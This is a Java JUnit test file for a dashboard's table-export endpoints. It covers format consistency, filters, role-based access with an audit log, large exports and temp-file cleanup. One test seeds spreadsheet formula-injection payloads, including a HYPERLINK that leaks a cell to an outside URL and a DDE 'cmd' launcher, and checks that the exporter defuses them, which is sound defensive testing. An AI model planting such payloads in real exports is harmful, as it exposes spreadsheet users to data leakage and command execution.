package dev.threadline.dashboard.web.answer;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.threadline.dashboard.fixture.RunningDashboard;
import dev.threadline.dashboard.fixture.Users;
import dev.threadline.dashboard.fixture.WarehouseFixture;
import dev.threadline.jobs.conversation.ConversationsTable;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TableExportTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    private static Path directory;

    private static RunningDashboard dashboard;

    @BeforeAll
    static void start() {
        WarehouseFixture.published(directory);
        dashboard = RunningDashboard.over(directory);
    }

    @AfterAll
    static void stop() {
        dashboard.close();
    }

    @ParameterizedTest
    @CsvSource({"conversations, 6, conversation_id", "turns, 3, turn", "stints, 3, agent_id"})
    void everyFormatHasTheSameRowsAndAllColumns(String table, int rows, String column) throws Exception {
        String path = "/api/exports/%s?period=all&format=".formatted(table);
        List<String> csv = dashboard.get(path + "csv").body().lines().toList();
        List<JsonNode> lines = lines(dashboard.get(path + "jsonl"));
        assertThat(csv).hasSize(rows + 1);
        assertThat(lines).hasSize(rows);
        List<String> columns = new ArrayList<>();
        lines.get(0).fieldNames().forEachRemaining(columns::add);
        assertThat(csv.get(0)).isEqualTo(String.join(",", columns));
        Path file = download(path + "parquet");
        try (Connection connection = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = connection.createStatement();
                ResultSet read = statement.executeQuery("FROM read_parquet('%s')".formatted(file))) {
            List<String> values = new ArrayList<>();
            assertThat(read.getMetaData().getColumnCount()).isEqualTo(columns.size());
            while (read.next()) {
                values.add(read.getString(column));
            }
            assertThat(values)
                    .containsExactlyInAnyOrderElementsOf(lines.stream()
                            .map(line -> line.path(column).asText())
                            .toList());
        }
    }

    @Test
    void anExportHonoursTheFilters() throws Exception {
        assertThat(ids("channel=sms&outcome=resolved&period=all")).containsExactlyInAnyOrder("c2", "c5");
        assertThat(ids("agent=a1&period=all")).containsExactlyInAnyOrder("c1", "c4");
        assertThat(ids("from=2026-03-31&until=2026-04-01&by=resolved")).containsExactly("c2");
    }

    @Test
    void aFilterThatDoesNotApplyIsRefusedRatherThanIgnored() throws Exception {
        HttpResponse<String> refused = dashboard.get("/api/exports/stints?outcome=resolved");
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body()).contains("outcome: does not apply to stints");
        assertThat(dashboard.get("/api/exports/turns?format=xlsx").statusCode()).isEqualTo(400);
        assertThat(dashboard.get("/api/exports/messages").statusCode()).isEqualTo(404);
    }

    @Test
    void aSpreadsheetRunsNothingThatSomebodyWroteIntoTheLog(@TempDir Path hostile) throws Exception {
        WarehouseFixture.published(hostile)
                .rewrite(ConversationsTable.TABLE, """
                        SELECT * REPLACE (
                            CASE conversation_id
                                WHEN 'c1' THEN '=HYPERLINK("http://x?"&A1,"y")'
                                WHEN 'c2' THEN '@SUM(1)'
                                WHEN 'c3' THEN '-2+3+cmd|'' /C calc''!A0'
                                WHEN 'c4' THEN '+49 170 1234567'
                                WHEN 'c5' THEN chr(9) || '=1'
                                ELSE 'a-b=c@d'
                            END AS customer_id,
                            -1 AS messages)
                        FROM rows""")
                .publish();
        try (RunningDashboard dashboard = RunningDashboard.over(hostile)) {
            for (String path : List.of("/api/exports/conversations", "/api/conversations")) {
                String csv = dashboard.get(path + "?period=all&format=csv").body();
                assertThat(csv)
                        .contains(
                                ",\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"y\"\")\",",
                                ",'@SUM(1),",
                                ",'-2+3+cmd|' /C calc'!A0,",
                                ",+49 170 1234567,",
                                ",'\t=1,",
                                ",a-b=c@d,")
                        .doesNotContain("'-1");
            }
            assertThat(dashboard.get("/api/exports/conversations?period=all").body())
                    .contains(",-1,");
            assertThat(dashboard
                            .get("/api/exports/conversations?period=all&format=jsonl")
                            .body())
                    .contains("\"@SUM(1)\"");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"csv", "jsonl", "parquet"})
    void aRoleTakesAwayNoMoreThanItSees(String format, @TempDir Path own) throws Exception {
        WarehouseFixture.published(own);
        try (RunningDashboard guarded = RunningDashboard.guardedOver(own, Users.ONE_OF_EACH, InstantSource.system())) {
            String vera = guarded.signIn("vera", Users.PASSWORD);
            String anton = guarded.signIn("anton", Users.PASSWORD);
            String path = "/api/exports/conversations?period=all&format=" + format;
            assertThat(guarded.get(path, "Cookie", vera).body())
                    .doesNotContain("customer_id", "thread_id", "agent_id", "harmed");
            String mine = guarded.get(path, "Cookie", anton).body();
            assertThat(mine).contains("c4", "customer_id").doesNotContain("c2", "c3");
            guarded.get("/api/exports/stints?format=" + format, "Cookie", vera);
            List<String> log = Files.readAllLines(own.resolve("exports.jsonl"));
            assertThat(log).hasSize(2);
            assertThat(log.get(0))
                    .contains("\"user\":\"vera\"", "\"format\":\"" + format + "\"", "\"rows\":6,\"complete\":true");
            assertThat(log.get(1)).contains("\"user\":\"anton\"", "\"rows\":2");
        }
    }

    @ParameterizedTest
    @CsvSource({"csv, 200000", "jsonl, 200000", "parquet, 200000"})
    void manyRowsArriveAll(String format, long rows, @TempDir Path large) throws Exception {
        WarehouseFixture.published(large).multiplyConversations(rows).publish();
        try (RunningDashboard many = RunningDashboard.over(large)) {
            Path file = download(many, "/api/exports/conversations?period=all&format=" + format);
            assertThat(count(file, format)).isEqualTo(rows);
        }
    }

    @Test
    void nothingIsLeftBehind() throws Exception {
        dashboard.get("/api/exports/conversations?format=parquet");
        try (var folders = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            for (Path folder : folders.filter(
                            path -> path.getFileName().toString().startsWith("threadline-exports"))
                    .toList()) {
                assertThat(folder).isEmptyDirectory();
            }
        }
    }

    private static List<String> ids(String query) throws Exception {
        return lines(dashboard.get("/api/exports/conversations?format=jsonl&" + query)).stream()
                .map(line -> line.path("conversation_id").asText())
                .toList();
    }

    private static List<JsonNode> lines(HttpResponse<String> answer) throws Exception {
        List<JsonNode> lines = new ArrayList<>();
        for (String line : answer.body().lines().toList()) {
            lines.add(JSON.readTree(line));
        }
        return lines;
    }

    private static Path download(String path) throws Exception {
        return download(dashboard, path);
    }

    private static Path download(RunningDashboard from, String path) throws Exception {
        HttpRequest request =
                HttpRequest.newBuilder(URI.create(from.address() + path)).build();
        Path file = Files.createTempFile(directory, "taken", ".away");
        return HttpClient.newHttpClient()
                .send(request, HttpResponse.BodyHandlers.ofFile(file))
                .body();
    }

    private static long count(Path file, String format) throws Exception {
        String reader = switch (format) {
            case "csv" -> "read_csv('%s', header = true, all_varchar = true)";
            case "jsonl" -> "read_json('%s', format = 'newline_delimited')";
            default -> "read_parquet('%s')";
        };
        try (Connection connection = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = connection.createStatement();
                ResultSet row = statement.executeQuery(
                        "SELECT count(DISTINCT conversation_id) FROM " + reader.formatted(file))) {
            row.next();
            return row.getLong(1);
        }
    }
}
